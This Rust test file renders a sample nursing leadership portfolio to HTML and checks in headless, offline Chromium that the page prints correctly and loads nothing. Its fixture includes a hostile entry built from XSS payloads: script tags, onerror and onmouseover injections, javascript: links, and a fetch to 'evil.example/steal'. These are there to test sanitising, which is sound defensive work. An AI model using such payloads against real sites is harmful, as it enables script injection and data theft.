//! The bundle's HTML view in a real browser: Debian's Chromium, headless, opens the page from
//! disk with no network, takes a screenshot and prints it to PDF. The page must render, print
//! one entry per page, and load nothing. Needs no app and no display; needs `chromium`
//! (`make test-deps` installs it).

use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use w2b_core::bundle::{
    render_html, BundleAttachment, BundleCoverage, BundleDomainCoverage, BundleEntry, BundleGoal,
    BundleGoalReview, BundleLesson, BundleRating, BundleReflection, BundleSection, BundleShadowing,
    PortfolioDocument,
};
use w2b_e2e::{screenshot_dir, Result};

/// How long Chromium may take for one page before the test gives up on it.
const CHROMIUM_PATIENCE: Duration = Duration::from_secs(90);

fn chromium() -> PathBuf {
    if let Some(path) = std::env::var_os("W2B_CHROMIUM") {
        return PathBuf::from(path);
    }
    let path = std::env::var_os("PATH").unwrap_or_default();
    for name in ["chromium", "chromium-browser"] {
        if let Some(found) = std::env::split_paths(&path)
            .map(|dir| dir.join(name))
            .find(|p| p.is_file())
        {
            return found;
        }
    }
    panic!(
        "Chromium is not installed: the bundle's HTML view is checked in headless Chromium. \
         Run `make test-deps`, which installs Debian's `chromium` package."
    );
}

/// Runs headless Chromium on the page with the given extra flags, stopping it if it hangs.
/// Returns what it logged. The log goes to a file, not a pipe nobody reads while it runs.
fn run_chromium(page: &Path, profile: &Path, flags: &[String]) -> Result<String> {
    std::fs::create_dir_all(profile)?;
    let log_path = profile.join("chromium.log");
    let log = std::fs::File::create(&log_path)?;
    let mut child = Command::new(chromium())
        .args([
            "--headless",
            "--no-sandbox",
            "--disable-gpu",
            "--hide-scrollbars",
            "--no-first-run",
            "--no-default-browser-check",
            "--disable-extensions",
            "--disable-sync",
            "--disable-background-networking",
            "--disable-component-update",
            "--enable-logging=stderr",
            "--v=0",
        ])
        .arg(format!("--user-data-dir={}", profile.display()))
        .args(flags)
        .arg(format!("file://{}", page.display()))
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(log)
        .spawn()
        .map_err(|e| {
            format!("cannot start Chromium ({e}); `make test-deps` installs Debian's `chromium` package")
        })?;
    let started = Instant::now();
    let status = loop {
        if let Some(status) = child.try_wait()? {
            break status;
        }
        if started.elapsed() > CHROMIUM_PATIENCE {
            let _ = child.kill();
            let _ = child.wait();
            return Err(
                format!("Chromium took longer than {CHROMIUM_PATIENCE:?} for {flags:?}").into(),
            );
        }
        std::thread::sleep(Duration::from_millis(100));
    };
    let logged = String::from_utf8_lossy(&std::fs::read(&log_path)?).into_owned();
    assert!(status.success(), "Chromium failed for {flags:?}: {logged}");
    Ok(logged)
}

/// Log lines that would mean the page tried to load something or run script: Chromium logs
/// a blocked load or script as a console message naming the Content Security Policy, and a
/// failed fetch with a `net::ERR_` code. This page writes nothing to the console itself.
fn blocked_loads(log: &str) -> Vec<String> {
    log.lines()
        .filter(|l| {
            l.contains("net::ERR_")
                || l.contains(":CONSOLE")
                || l.contains("Content Security Policy")
        })
        .map(str::to_owned)
        .collect()
}

/// The check on Chromium's log finds a blocked load when there is one, so its silence about
/// the bundle's page means something.
#[test]
fn a_page_that_tries_to_load_something_is_caught() -> Result<()> {
    let work = tempfile::tempdir()?;
    let page = work.path().join("probe.html");
    std::fs::write(
        &page,
        "<!DOCTYPE html><html><head><meta charset=\"utf-8\">\
         <meta http-equiv=\"Content-Security-Policy\" content=\"default-src 'none'; style-src 'unsafe-inline'; img-src data:\">\
         </head><body><img src=\"https://evil.example/x.png\" alt=\"\"><p>probe</p></body></html>",
    )
    ?;
    let shot = work.path().join("probe.png");
    let output = run_chromium(
        &page,
        &work.path().join("profile"),
        &[format!("--screenshot={}", shot.display())],
    )?;
    assert!(
        !blocked_loads(&output).is_empty(),
        "Chromium's log must show the blocked image, or the check on the bundle proves nothing: {output}"
    );
    Ok(())
}

#[test]
fn the_html_view_renders_and_prints_one_entry_per_page_with_no_network() -> Result<()> {
    let document = sample_document();
    let html = render_html(&document);
    assert!(
        !html.contains("http://") && !html.contains("https://"),
        "no web address survives, so nothing can be fetched (the hostile entry's remote images included)"
    );
    assert!(
        !html.to_lowercase().contains("<script"),
        "the page carries no script, hostile entry included"
    );

    // The page is kept beside its screenshots and printout, for people to open too.
    let shots = screenshot_dir();
    std::fs::create_dir_all(&shots)?;
    let page = std::path::absolute(shots.join("bundle.html"))?;
    std::fs::write(&page, &html)?;
    let work = tempfile::tempdir()?;
    let profile = work.path().join("profile");

    let png = shots.join("60-bundle-html.png");
    let _ = std::fs::remove_file(&png);
    let screen = run_chromium(
        &page,
        &profile,
        &[
            format!("--screenshot={}", png.display()),
            "--window-size=1200,1600".to_owned(),
        ],
    )?;
    let png_bytes =
        std::fs::read(&png).map_err(|e| format!("Chromium wrote no screenshot: {e}"))?;
    assert!(
        png_bytes.starts_with(b"\x89PNG") && png_bytes.len() > 20_000,
        "the screenshot is a real picture of a page ({} bytes)",
        png_bytes.len()
    );
    println!("screenshot: {}", png.display());

    // The whole page at once: headless Chromium paints only the top of a page (it does not
    // paint a page scrolled to an anchor), so a tall window shows every part.
    let full_png = shots.join("61-bundle-html-full.png");
    let _ = std::fs::remove_file(&full_png);
    let full_screen = run_chromium(
        &page,
        &profile,
        &[
            format!("--screenshot={}", full_png.display()),
            "--window-size=1200,8000".to_owned(),
        ],
    )?;
    assert!(
        full_png.is_file(),
        "Chromium wrote the whole-page screenshot"
    );
    println!("screenshot: {}", full_png.display());

    let pdf = shots.join("bundle.pdf");
    let _ = std::fs::remove_file(&pdf);
    let print = run_chromium(
        &page,
        &profile,
        &[
            format!("--print-to-pdf={}", pdf.display()),
            "--no-pdf-header-footer".to_owned(),
        ],
    )?;
    let pdf_bytes = std::fs::read(&pdf).map_err(|e| format!("Chromium wrote no PDF: {e}"))?;
    assert!(pdf_bytes.starts_with(b"%PDF"), "the printout is a PDF");
    let pages = pdf_pages(&pdf_bytes);
    assert!(
        pages > document.entries.len(),
        "each entry starts its own page after the cover: {pages} pages for {} entries",
        document.entries.len()
    );
    println!("printed: {} ({pages} pages)", pdf.display());

    for output in [screen, full_screen, print] {
        let blocked = blocked_loads(&output);
        assert!(
            blocked.is_empty(),
            "the page must not try to load anything or run script: {blocked:#?}"
        );
    }
    Ok(())
}

/// Page objects in a PDF: `/Type /Page` but not `/Type /Pages` (Chromium writes page
/// dictionaries uncompressed).
fn pdf_pages(pdf: &[u8]) -> usize {
    let needle = b"/Type /Page";
    pdf.windows(needle.len() + 1)
        .filter(|w| w.starts_with(needle) && w[needle.len()] != b's')
        .count()
}

fn entry(uid: &str, kind: &str, kind_label: &str, title: &str, date: &str) -> BundleEntry {
    BundleEntry {
        uid: uid.to_owned(),
        version: 1,
        kind: kind.to_owned(),
        kind_label: kind_label.to_owned(),
        title: title.to_owned(),
        date: date.to_owned(),
        body: String::new(),
        reflection: None,
        tags: Vec::new(),
        clinical_minutes: 0,
        management_minutes: 0,
        participatory: false,
        feedback_source: None,
        shadowing: None,
        behaviours: Vec::new(),
        lessons: Vec::new(),
        attachments: Vec::new(),
        from_study: false,
    }
}

fn rating(
    id: &str,
    statement: &str,
    domain: &str,
    rating: u32,
    label: &str,
    why: &str,
) -> BundleRating {
    BundleRating {
        framework_id: "hlm".into(),
        framework_title: "Healthcare Leadership Model".into(),
        behaviour_id: id.into(),
        statement: statement.into(),
        domain_title: domain.into(),
        rating,
        rating_label: label.into(),
        justification: why.into(),
    }
}

fn section(title: &str, text: &str) -> BundleSection {
    BundleSection {
        title: title.into(),
        text: text.into(),
    }
}

fn sample_document() -> PortfolioDocument {
    let mut reflection = entry(
        "4f1c2a9e0b7d4e7f9a1b2c3d4e5f6a70",
        "reflection",
        "Reflection",
        "A night handover that missed a deteriorating patient",
        "2026-01-14",
    );
    reflection.version = 2;
    reflection.tags = vec!["handover".into(), "patient safety".into()];
    reflection.clinical_minutes = 60;
    reflection.management_minutes = 30;
    reflection.reflection = Some(BundleReflection {
        template: "gibbs".into(),
        template_title: "Gibbs' reflective cycle".into(),
        sections: vec![
            section("Description", "At the 20:00 handover on Ward 7 the NEWS2 score of a patient in bay 3 was not passed on. The night nurse found the patient *unwell* at 22:30."),
            section("Feelings", "I felt responsible: I had rushed the handover to cover a gap in the rota."),
            section("Evaluation", "- The patient was escalated quickly once found.\n- The handover sheet had no field for rising scores."),
            section("Analysis", "Our handover relies on memory. SBAR gives a structure, and the trust's policy asks for a written handover."),
            section("Conclusion", "A structured, written handover would have caught it."),
            section("Action plan", "1. Add a *NEWS2 trend* column to the sheet by March.\n2. Audit ten handovers in April.\n3. Share the results at the ward meeting."),
        ],
        code_themes: vec!["preserve_safety".into(), "practise_effectively".into()],
    });
    reflection.behaviours = vec![
        rating(
            "hlm-1.2",
            "Acts on concerns about care quickly and openly",
            "Holding to account",
            3,
            "Strong",
            "I raised it at the safety huddle the next morning\nand logged it on Datix.",
        ),
        rating(
            "hlm-4.1",
            "Shares a clear purpose with the team",
            "Inspiring shared purpose",
            2,
            "Developing",
            "",
        ),
    ];
    reflection.attachments = vec![BundleAttachment {
        file_name: "handover-sheet-v2.pdf".into(),
        media_type: "application/pdf".into(),
        size: 184_320,
        sha256: "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08".into(),
        path: "attachments/1-handover-sheet-v2.pdf".into(),
    }];

    let mut cpd = entry(
        "7a2b3c4d5e6f708192a3b4c5d6e7f801",
        "cpd",
        "CPD activity",
        "Finance for ward managers: reading a budget statement",
        "2026-02-03",
    );
    cpd.body = "A half-day course run by the trust's finance team.\n\n## What I learned\n\n| Line | Budget | Actual |\n|:--|--:|--:|\n| Nursing pay | £1,200,000 | £1,260,000 |\n| Bank and agency | £80,000 | £145,000 |\n\n> [!NOTE]\n> The variance on bank and agency is **adverse** and mostly from night shifts.".into();
    cpd.management_minutes = 210;
    cpd.participatory = true;
    cpd.tags = vec!["finance".into()];
    cpd.from_study = true;
    cpd.lessons = vec![
        BundleLesson {
            pack_id: "ward-to-board.core".into(),
            lesson_id: "finance-budget-statement".into(),
            title: Some("Reading a budget statement".into()),
        },
        BundleLesson {
            pack_id: "old.pack".into(),
            lesson_id: "variance-101".into(),
            title: None,
        },
    ];
    cpd.behaviours = vec![rating(
        "hlm-7.3",
        "Uses resources wisely",
        "Developing capability",
        2,
        "Developing",
        "Spotted the agency overspend.",
    )];
    cpd.attachments = vec![
        BundleAttachment {
            file_name: "certificate.png".into(),
            media_type: "image/png".into(),
            size: 96_000,
            sha256: "2c26b46b68ffc68ff99b453c1d30413413422d706483bfa0f98a5e886266e7ae".into(),
            path: "attachments/2-certificate.png".into(),
        },
        BundleAttachment {
            file_name: "budget-notes.docx".into(),
            media_type: "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
                .into(),
            size: 2_621_440,
            sha256: "fcde2b2edba56bf408601fb721fe9b5c338d10ee429ea04fae5511b68fbf8fb9".into(),
            path: "attachments/3-budget-notes.docx".into(),
        },
    ];

    let mut shadowing = entry(
        "81c2d3e4f5a6b7c8d9e0f1a2b3c4d5e6",
        "shadowing",
        "Shadowing or paired learning",
        "A day with the divisional matron",
        "2026-02-20",
    );
    shadowing.management_minutes = 420;
    shadowing.participatory = true;
    shadowing.shadowing = Some(BundleShadowing {
        partner_role: "Divisional matron, medicine".into(),
        i_learned: "How the bed meeting weighs elective work against emergencies.\nHow staffing is moved across wards at 08:00.".into(),
        they_learned: "What a short-staffed night looks like from the ward.".into(),
    });
    shadowing.feedback_source = Some("colleague".into());
    shadowing.behaviours = vec![rating(
        "hlm-5.2",
        "Builds relationships across teams",
        "Connecting our service",
        3,
        "Strong",
        "",
    )];

    let mut hostile = entry(
        "<script>alert(1)</script>\" onmouseover=\"alert(2)",
        "significant_event",
        "Significant event",
        "<img src=x onerror=alert(3)> Fall on the ward & what followed",
        "2026-03-02",
    );
    hostile.body = "<script>fetch('https://evil.example/steal')</script>\n\n<img src=\"https://evil.example/pixel.png\" onerror=\"alert(4)\">\n\n![tracker](https://evil.example/p.png)\n\n<iframe src=\"https://evil.example/\"></iframe>\n\nA patient fell at 03:00; the review found the bed rail was left down.\n\n[click](javascript:alert(5))".into();
    hostile.tags = vec!["<b onclick=alert(6)>falls</b>".into()];
    hostile.attachments = vec![BundleAttachment {
        file_name: "\"><script>alert(7)</script>.pdf".into(),
        media_type: "application/pdf".into(),
        size: 1_024,
        sha256: "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855".into(),
        path: "javascript:alert(8)".into(),
    }];

    PortfolioDocument {
        format_version: 1,
        bundle_id: "3f9a0c1e5b7d4a2c8e6f1b3d5a7c9e0f".into(),
        created_at: "2026-04-02T09:30:00Z".into(),
        learner: "Sam Patel".into(),
        period_from: Some("2025-04-01".into()),
        period_to: Some("2026-03-31".into()),
        entries: vec![reflection, cpd, shadowing, hostile],
        frameworks: vec![],
        learning: None,
        coverage: vec![BundleCoverage {
            framework_id: "hlm".into(),
            framework_title: "Healthcare Leadership Model".into(),
            items_total: 27,
            items_covered: 5,
            domains: vec![
                BundleDomainCoverage {
                    title: "Inspiring shared purpose".into(),
                    entries: 1,
                    behaviours_covered: 1,
                    behaviours_total: 3,
                },
                BundleDomainCoverage {
                    title: "Holding to account".into(),
                    entries: 1,
                    behaviours_covered: 1,
                    behaviours_total: 3,
                },
                BundleDomainCoverage {
                    title: "Developing capability".into(),
                    entries: 1,
                    behaviours_covered: 1,
                    behaviours_total: 4,
                },
                BundleDomainCoverage {
                    title: "Connecting our service".into(),
                    entries: 1,
                    behaviours_covered: 2,
                    behaviours_total: 4,
                },
                BundleDomainCoverage {
                    title: "Leading with care".into(),
                    entries: 0,
                    behaviours_covered: 0,
                    behaviours_total: 4,
                },
                BundleDomainCoverage {
                    title: "Engaging the team".into(),
                    entries: 0,
                    behaviours_covered: 0,
                    behaviours_total: 9,
                },
            ],
        }],
        goals: vec![
            BundleGoal {
                title: "Chair the ward's monthly budget meeting".into(),
                measure: "Chair three meetings and present the variance report at each".into(),
                achievable: "My manager will co-chair the first one with me".into(),
                relevant: "Band 7 posts ask for budget responsibility".into(),
                due_date: "2026-06-30".into(),
                status: "in_progress".into(),
                behaviours: vec!["Uses resources wisely".into()],
                reviews: vec![BundleGoalReview {
                    date: "2026-03-01".into(),
                    note: "Co-chaired February's meeting.\nNext: lead March on my own.".into(),
                }],
            },
            BundleGoal {
                title: "Introduce a structured written handover".into(),
                measure: "Audit of ten handovers shows NEWS2 trends passed on in all".into(),
                achievable: "The sheet is already drafted".into(),
                relevant: "Follows the January significant event".into(),
                due_date: "2026-04-30".into(),
                status: "not_started".into(),
                behaviours: Vec::new(),
                reviews: Vec::new(),
            },
        ],
    }
}
